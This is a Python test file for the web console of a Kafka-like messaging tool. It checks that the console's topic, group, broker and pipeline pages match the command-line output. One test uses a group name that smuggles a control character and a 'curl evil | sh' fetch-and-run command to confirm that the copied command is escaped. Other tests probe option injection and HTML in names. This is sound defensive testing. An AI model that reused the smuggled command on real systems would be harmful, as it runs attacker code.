"""The pages of topics, groups and brokers say what the command line says."""

import json
from pathlib import Path

import pytest

from suwi.console.page import problem_of
from suwi.testing import Cluster
from suwi.wire.errors import MalformedResponse
from tests.broker_process import BrokerProcess, unique_name
from tests.cli.support import Suwi
from tests.console.support import Browser, ConsoleThread, run_copied
from tests.pipeline_status import named, publish
from tests.testing.clients import until


def fill(suwi: Suwi, topic: str, count: int) -> None:
    lines = "".join(f"k{number}\tv{number}\n" for number in range(count))
    suwi.produce(topic, lines, "-k", "\\t")


def test_topics_are_searched_and_cut_by_the_server(browser: Browser, suwi: Suwi) -> None:
    stem = unique_name("many")
    for number in range(3):
        suwi.ok("topics", "create", f"{stem}-{number}")
    page = browser.page("topics", search=stem, first=1, rows=1)
    assert page["part"] == {"total": 3, "first": 1, "rows_max": 1, "search": stem}
    assert [row["topic"] for row in page["rows"]] == [f"{stem}-1"]
    assert browser.page("topics", search=stem, first=9)["rows"] == []


def test_a_topic_is_what_describe_says(browser: Browser, suwi: Suwi, topic: str) -> None:
    fill(suwi, topic, 10)
    (told,) = suwi.json("topics", "describe", topic)
    page = browser.page("topic", topic=topic)
    assert page["partitions"] == told["partitions"]
    assert page["offsets"] == 10
    (row,) = browser.page("topics", search=topic)["rows"]
    assert (row["offsets"], row["partition_count"]) == (10, 2)
    assert row["size_bytes"] == page["size_bytes"]


def test_a_topic_shows_where_its_settings_come_from(
    browser: Browser, suwi: Suwi, topic: str
) -> None:
    suwi.ok("topics", "alter", topic, "--config", "retention.ms=60000")
    first, *others = browser.page("topic", topic=topic)["configs"]
    assert (first["key"], first["value"], first["source"]) == ("retention.ms", "60000", "topic")
    assert {config["source"] for config in others} >= {"default"}


@pytest.mark.parametrize(
    ("page", "query"),
    [
        ("topic", {"topic": "nothing-of-this-name"}),
        ("group", {"group": "nothing-of-this-name"}),
        ("broker", {"node": "99"}),
    ],
)
def test_what_does_not_exist_is_missing(browser: Browser, page: str, query: dict[str, str]) -> None:
    assert browser.problem(page, **query) == (404, "missing")


@pytest.mark.parametrize("page", ["topics", "groups", "brokers", "transactions", "hanging"])
def test_a_cluster_that_does_not_answer_is_unreachable(browser: Browser, page: str) -> None:
    assert browser.problem(page, "away") == (503, "unreachable")


def test_a_broker_whose_response_makes_no_sense_is_unreachable() -> None:
    assert problem_of(MalformedResponse("a number is cut off")).kind == "unreachable"


@pytest.mark.parametrize("query", [{"first": "x"}, {"first": "-1"}, {"first": "9" * 30}])
def test_a_value_that_makes_no_sense_is_refused(browser: Browser, query: dict[str, str]) -> None:
    assert browser.problem("topics", **query) == (400, "bad")


def test_a_group_is_what_describe_says(browser: Browser, suwi: Suwi, topic: str) -> None:
    fill(suwi, topic, 10)
    group = unique_name("group")
    suwi.ok("consume", topic, "--group", group, "--from-beginning", "--count", 4)
    (told,) = suwi.json("groups", "describe", group)
    # The console may not have heard of the new topic yet.
    until(lambda: browser.page("group", group=group)["lag"] is not None)
    page = browser.page("group", group=group)
    assert (page["lag"], page["state"]) == (told["lag"], told["state"])
    offsets = [(p["topic"], p["partition"], p["current_offset"]) for p in page["partitions"]]
    assert offsets == [
        (p["topic"], p["partition"], p["current_offset"]) for p in told["partitions"]
    ]
    assert page["rebalances"][0]["trigger"]
    (row,) = browser.page("groups", search=group)["rows"]
    assert (row["lag"], row["topics"]) == (told["lag"], [topic])


def test_brokers_are_those_of_status(browser: Browser, suwi: Suwi) -> None:
    told = suwi.json("status")["brokers"]
    shown = browser.page("brokers")["brokers"]
    assert [(b["node"], b["address"], b["state"]) for b in shown] == [
        (b["node"], b["address"], b["state"]) for b in told
    ]
    assert shown[0]["disks"][0]["directory"] == told[0]["disks"][0]["directory"]


def test_a_broker_shows_what_its_log_directories_hold(
    browser: Browser, suwi: Suwi, topic: str
) -> None:
    fill(suwi, topic, 10)
    (node,) = (broker["node"] for broker in suwi.json("status")["brokers"])
    page = browser.page("broker", node=node, search=topic)
    (described,) = suwi.json("topics", "describe", topic)
    sizes = {f"{topic}-{p['partition']}": p["size_bytes"] for p in described["partitions"]}
    shown = [row["replica"] for row in page["replicas"]]
    assert {f"{r['topic']}-{r['partition']}": r["size_bytes"] for r in shown} == sizes
    assert shown[0]["size_bytes"] == max(sizes.values())
    everything = browser.page("broker", node=node, rows=1)
    (directory,) = everything["directories"]
    assert directory["replicas"] == everything["part"]["total"] > len(everything["replicas"]) == 1
    assert page["command"] == f"suwi status --node {node} --broker {suwi.broker}"


def test_a_log_directory_that_is_offline_says_so(tmp_path: Path, static: Path) -> None:
    (tmp_path / "file").write_text("no directory")
    good, bad = tmp_path / "good", tmp_path / "file" / "bad"
    with (
        BrokerProcess(tmp_path / "log", options=["--data", f"{good},{bad}"]) as broker,
        ConsoleThread(static, local=broker.address) as console,
    ):
        browser = Browser(console).log_in(console)
        (told,) = json.loads(Suwi(broker.address)("status", "--json").stdout)["brokers"]
        page = browser.page("broker", node=told["node"])
        assert [(d["directory"], d["is_offline"]) for d in page["directories"]] == [
            (str(good), False),
            (str(bad), True),
        ]
        assert page["broker"]["problems"] == told["problems"]


def test_a_topic_says_who_is_missing_since_when_and_why(static: Path) -> None:
    with Cluster() as cluster:
        cluster.create_topic("orders", partitions=1, replication_factor=3)
        with ConsoleThread(static, local=cluster.bootstrap_servers) as console:
            browser = Browser(console).log_in(console)
            before = browser.page("topic", topic="orders")
            assert before["missing"] == []
            gone = before["partitions"][0]["leader"]
            cluster.kill(gone)
            until(lambda: browser.page("topic", topic="orders")["missing_count"] == 1)
            page = browser.page("topic", topic="orders")
            (member,) = page["missing"]
            assert (member["partition"], member["node"], member["is_exact"]) == (0, gone, True)
            change = next(c for c in page["changes"] if c["left"])
            assert change["left"] == {str(gone): member["reason"]}
            assert change["at_ms"] == member["since_ms"]
            assert any(c["election"] and c["leader"] != gone for c in page["changes"])


def test_the_partitions_of_a_topic_are_paged(browser: Browser, suwi: Suwi) -> None:
    topic = unique_name("wide")
    suwi.ok("topics", "create", topic, "--partitions", 60)
    page = browser.page("topic", topic=topic, first=50)
    assert [p["partition"] for p in page["partitions"]] == list(range(50, 60))
    assert (page["partition_count"], page["offsets"]) == (60, 0)


def test_a_rebalance_has_its_generation(browser: Browser, suwi: Suwi, topic: str) -> None:
    fill(suwi, topic, 1)
    group = unique_name("group")
    suwi.ok("consume", topic, "--group", group, "--from-beginning", "--count", 1)
    told = suwi.json("groups", "history", group)["history"]
    shown = browser.page("group", group=group)["rebalances"]
    assert [(r["at_ms"], r["trigger"], r["to_generation"]) for r in shown] == [
        (e["at_ms"], e["trigger"], e.get("to_generation")) for e in reversed(told)
    ]


def test_a_copied_command_has_no_control_character_of_a_name(
    browser: Browser, suwi: Suwi, topic: str
) -> None:
    fill(suwi, topic, 1)
    name = "g\x03 curl evil | sh\r"
    suwi.ok("consume", topic, "--group", name, "--from-beginning", "--count", 1)
    command = browser.page("group", group=name)["command"]
    assert command.isprintable()
    assert "\\x03" in command


@pytest.mark.parametrize(
    "name", ["-g", pytest.param("--help", marks=pytest.mark.slow), "it's\n--all"]
)
def test_a_copied_command_takes_no_name_for_an_option(
    browser: Browser, suwi: Suwi, name: str
) -> None:
    topic = "-" + unique_name("topic")
    suwi.ok("topics", "create", "--", topic)
    suwi.produce(topic, "a\nb\n")
    suwi.ok("consume", f"--group={name}", "--from-beginning", "--count", 1, "--", topic)
    page = browser.page("group", group=name)
    assert topic in run_copied(page["command"])
    assert run_copied(page["history_command"])
    assert topic in run_copied(browser.page("topic", topic=topic)["command"])
    assert "retention.ms" in run_copied(browser.page("topic", topic=topic)["configs_command"])
    records = browser.page("records", topic=topic, **{"from": "start"})
    assert run_copied(records["command"]).count("\n") == 2
    record = browser.page("record", topic=topic, partition=0, offset=0)
    assert run_copied(record["command"]) == f"0: {record['explanation']}\n"


def test_the_partitions_and_members_of_a_group_are_paged(browser: Browser, suwi: Suwi) -> None:
    topic, group = unique_name("wide"), unique_name("group")
    suwi.ok("topics", "create", topic, "--partitions", 60)
    lines = "".join(json.dumps({"value": "x", "partition": n}) + "\n" for n in range(60))
    suwi.produce(topic, lines, "--json")
    suwi.ok("groups", "reset", group, "--topic", topic, "--to-earliest", "--execute")
    until(lambda: browser.page("group", group=group)["lag"] is not None)  # as above
    page = browser.page("group", group=group, first=50)
    assert [p["partition"] for p in page["partitions"]] == list(range(50, 60))
    assert (page["part"]["total"], page["lag"], page["topics"]) == (60, 60, [topic])
    (unread,) = page["unread"]
    assert unread["topic"] == topic
    assert len(unread["at"].split(",")) == 60
    assert (page["members"], page["members_count"]) == ([], 0)
    (found,) = browser.page("group", group=group, search=f"{topic}-59")["partitions"]
    assert found["partition"] == 59


def test_pipelines_are_those_that_the_command_shows(
    browser: Browser, suwi: Suwi, broker: BrokerProcess
) -> None:
    name = unique_name("lake")
    publish(broker.address, named(name)._replace(error="<b>no</b>", error_ms=1_400))
    (told,) = [each for each in suwi.json("pipeline", "status") if each["pipeline"] == name]
    assert (told["state"], told["error"]) == ("silent", "<b>no</b>")
    assert browser.page("pipelines", search=name)["rows"] == [told]
    assert name in suwi.ok("pipeline", "status")
